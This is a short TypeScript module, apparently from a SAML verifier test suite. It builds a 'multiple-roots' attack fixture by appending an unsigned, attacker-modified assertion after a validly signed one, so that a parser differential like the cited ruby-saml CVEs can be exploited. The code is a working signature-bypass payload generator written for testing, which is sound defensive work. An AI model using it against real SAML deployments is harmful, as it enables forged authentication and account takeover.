/**
 * Multiple roots: the signed assertion followed by an unsigned evil one in the same text, for a
 * pipeline where the signature check and the claim reader see different roots (a lenient parser
 * keeps the first, a stream reader the last).
 * @see XML 1.0 §2.1 (a document has exactly one root element); CVE-2025-25291/25292 (ruby-saml
 *   parser differentials)
 */
import { applyEvil, dropSignature, EVIL_ASSERTION_ID, readSigned, write } from './edit.ts';
import type { SamlAttack } from './types.ts';

export const MULTIPLE_ROOTS: SamlAttack = {
  name: 'multiple-roots',
  fixture: 'multiple-roots-evil-after-signed',
  summary: 'the signed assertion, then an unsigned evil assertion as a second root',
  source: 'XML 1.0 §2.1; parser-differential class of CVE-2025-25291/25292',
  apply: ({ signed, evil }) => {
    const s = readSigned(signed);
    applyEvil(dropSignature(s.assertion), evil);
    s.assertion.setAttribute('AssertionID', EVIL_ASSERTION_ID);
    return `${signed}${write(s.doc)}`;
  },
};
